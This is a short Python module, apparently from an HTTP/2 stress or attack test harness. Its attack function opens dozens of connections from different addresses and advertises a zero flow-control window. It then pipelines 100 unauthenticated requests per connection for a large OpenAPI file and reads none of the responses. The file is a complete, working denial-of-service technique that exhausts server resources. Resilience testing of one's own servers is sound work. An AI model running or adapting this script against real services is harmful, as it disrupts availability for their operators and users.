# SPDX-License-Identifier: Apache-2.0
"""Asks for the largest answers there are without a token, a hundred at a time on each of many connections, each from another
address, and reads none."""
import struct

from lib.flood import Shut, headers, request_block
from lib.http2 import SETTINGS, frame

CONNECTIONS = 60


def attack(target):
    no_window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    block = request_block("/openapi.yaml", "GET")
    lines, shut = [], 0
    while target.is_on():
        if len(lines) < CONNECTIONS and (line := target.line(1 + len(lines))) is not None:
            lines.append(line)
            try:
                line.send(no_window + b"".join(headers(s, block) for s in range(1, 201, 2)))
            except Shut:
                shut += 1
    for line in lines:
        line.close()
    return f"{len(lines)} connections with 100 unread answers each, {shut} shut"
